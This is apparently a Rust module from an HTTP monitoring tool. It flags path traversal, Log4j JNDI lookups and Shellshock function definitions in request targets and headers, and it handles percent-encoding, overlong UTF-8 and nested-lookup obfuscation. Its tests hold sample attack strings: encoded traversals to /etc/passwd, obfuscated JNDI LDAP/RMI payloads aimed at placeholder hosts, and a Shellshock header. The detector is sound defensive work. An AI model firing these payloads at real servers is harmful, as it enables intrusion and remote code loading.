//! Shapes of published attacks in request targets and headers.
//!
//! Three that work against devices whoever made them, and that no well-behaved client sends: a way
//! out of the served folder, a Log4j lookup (CVE-2021-44228), a function definition for bash
//! (CVE-2014-6271). What an intrusion prevention system has thousands of rules for is deliberately
//! absent.

use crate::redact::encoding::percent_decode;

/// Longest target or header that is looked through, in bytes; what lies beyond is not.
const MAX_LOOK: usize = 16 * 1024;

/// Deepest nesting of lookups that is resolved.
const MAX_NESTING: usize = 32;

/// The shapes found, in the words of the field `suspicious`, each once.
pub(super) fn shapes(target: &[u8], head: &[u8]) -> Vec<&'static [u8]> {
    let mut found: Vec<&'static [u8]> = Vec::new();
    // Every shape needs one of these pairs, or a percent sign to hide it.
    if !head.windows(2).any(|w| matches!(w, b".." | b"${" | b"()" | [b'%', _])) {
        return found;
    }
    let target = decoded(target);
    let head_text = head.get(..head.len().min(MAX_LOOK)).unwrap_or_default();
    let (path, query) = match target.iter().position(|&b| b == b'?') {
        Some(mark) => target.split_at(mark),
        None => (&target[..], &[][..]),
    };
    if climbs(path, 1) || climbs(query, 2) || climbs(head_text, 2) {
        found.push(b"traversal");
    }
    let decoded_head = decoded(head_text);
    if looks_up(&target) || looks_up(&decoded_head) {
        found.push(b"jndi");
    }
    if defines_function(&target) || defines_function(&decoded_head) {
        found.push(b"shellshock");
    }
    found
}

/// Decoded until nothing changes, at most three times, overlong dots and slashes included.
fn decoded(text: &[u8]) -> Vec<u8> {
    let mut text = text.get(..text.len().min(MAX_LOOK)).unwrap_or_default().to_vec();
    for _ in 0..3 {
        let next = percent_decode(&text).into_owned();
        if next == text {
            break;
        }
        text = next;
    }
    // CVE-2000-0884 and its like: UTF-8 of two bytes for characters that need one.
    let mut plain = Vec::with_capacity(text.len());
    let mut rest = &text[..];
    while let Some((&first, tail)) = rest.split_first() {
        let (byte, after) = match (first, tail) {
            (0xc0, [0xae, after @ ..]) => (b'.', after),
            (0xc0, [0xaf, after @ ..]) => (b'/', after),
            (0xc1, [0x9c, after @ ..]) => (b'\\', after),
            _ => (first, tail),
        };
        plain.push(byte);
        rest = after;
    }
    plain
}

/// Whether a text goes up by at least so many folders, one after the other.
fn climbs(text: &[u8], least: usize) -> bool {
    let mut up = 0_usize;
    for segment in text.split(|b| matches!(b, b'/' | b'\\' | b'=' | b' ' | b'&' | b'?')) {
        // Tomcat and others drop what follows a semicolon: /..;/manager.
        let name = segment.split(|&b| b == b';').next().unwrap_or_default();
        up = if name == b".." { up.saturating_add(1) } else { 0 };
        if up >= least {
            return true;
        }
    }
    false
}

/// Whether a text holds a JNDI lookup, seen through lookups that spell it letter by letter:
/// `${${lower:j}ndi:...}`, `${${::-j}${::-n}di:...}`, `${${env:X:-j}ndi:...}`.
fn looks_up(text: &[u8]) -> bool {
    let mut open: Vec<Vec<u8>> = Vec::new();
    let mut rest = text;
    while let Some((&first, tail)) = rest.split_first() {
        rest = tail;
        match (first, tail.first()) {
            (b'$', Some(b'{')) => {
                rest = tail.get(1..).unwrap_or_default();
                if open.len() < MAX_NESTING {
                    open.push(Vec::new());
                }
            }
            (b'}', _) => {
                let Some(closed) = open.pop() else { continue };
                if is_jndi(&closed) {
                    return true;
                }
                if let Some(outer) = open.last_mut() {
                    outer.extend_from_slice(resolved(&closed));
                }
            }
            (byte, _) => {
                if let Some(inner) = open.last_mut() {
                    inner.push(byte.to_ascii_lowercase());
                }
            }
        }
    }
    open.iter().any(|unclosed| is_jndi(unclosed))
}

fn is_jndi(lookup: &[u8]) -> bool {
    lookup.trim_ascii_start().starts_with(b"jndi:")
}

/// What Log4j puts in place of a lookup whose variable is unknown.
fn resolved(lookup: &[u8]) -> &[u8] {
    if let Some(mark) = lookup.windows(2).rposition(|w| w == b":-") {
        return lookup.get(mark.saturating_add(2)..).unwrap_or_default();
    }
    [&b"lower:"[..], b"upper:"].iter().find_map(|p| lookup.strip_prefix(*p)).unwrap_or_default()
}

/// Whether a text holds `() {` that does not follow a name, as it would in a script.
fn defines_function(text: &[u8]) -> bool {
    text.windows(2).enumerate().any(|(at, pair)| {
        if pair != b"()" {
            return false;
        }
        let after = text.get(at.saturating_add(2)..).unwrap_or_default();
        let brace = after.iter().take(8).find(|b| !matches!(b, b' ' | b'+' | b'\t'));
        let before = at.checked_sub(1).and_then(|before| text.get(before));
        let free = matches!(before, None | Some(b' ' | b'"' | b'\'' | b'=' | b':' | b'/' | b'?'));
        brace == Some(&b'{') && free
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(target: &str, header: &str) -> Vec<&'static [u8]> {
        shapes(
            target.as_bytes(),
            format!("GET {target} HTTP/1.1\r\nX: {header}\r\n\r\n").as_bytes(),
        )
    }

    #[test]
    fn traversal_is_seen_plain_and_encoded() {
        for target in [
            "/cgi-bin/../../etc/passwd",
            "/%2e%2e/%2e%2e/etc/passwd",
            "/%252e%252e%252fetc/passwd",
            "/..%5c..%5cwindows",
            "/..%c0%af..%c0%afwinnt",
            "/manager/..;/html",
            "/get?file=../../../etc/passwd",
        ] {
            assert_eq!(of(target, ""), [b"traversal"], "{target}");
        }
        assert_eq!(of("/", "../../../boot.ini"), [b"traversal"]);
    }

    #[test]
    fn jndi_is_seen_through_nested_lookups() {
        for payload in [
            "${jndi:ldap://192.0.2.1/a}",
            "${JNDI:rmi://192.0.2.1/a}",
            "${${lower:j}ndi:${lower:l}dap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${env:NOPE:-j}ndi:ldap://x/a}",
            "${${upper:${lower:j}}ndi:dns://x}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
            "${jndi:ldap://cut-o",
        ] {
            assert_eq!(of("/", payload), [b"jndi"], "{payload}");
            assert_eq!(of(&format!("/?q={payload}"), ""), [b"jndi"], "{payload}");
        }
    }

    #[test]
    fn shellshock_is_seen_in_any_header() {
        assert_eq!(of("/cgi-bin/status", "() { :;}; /bin/ping 192.0.2.1"), [b"shellshock"]);
        assert_eq!(of("/cgi-bin/x?()%20%7B%20:;%7D;echo", ""), [b"shellshock"]);
    }

    #[test]
    fn ordinary_requests_are_not_suspicious() {
        for (target, header) in [
            ("/a/b..c/d", "file..name"),
            ("/a?price=$5&x={y}", "${user.name}"),
            ("/a?next=../home", "see ../up"),
            ("/a", "function() { return 1 }"),
            ("/%E2%82%AC/100%25", ""),
            ("/a...b/", "Mozilla/5.0 (X11; Linux) ()"),
        ] {
            assert!(of(target, header).is_empty(), "{target} {header}");
        }
    }

    #[test]
    fn endless_nesting_is_bounded() {
        assert!(of("/", &"${".repeat(8_000)).is_empty());
    }
}
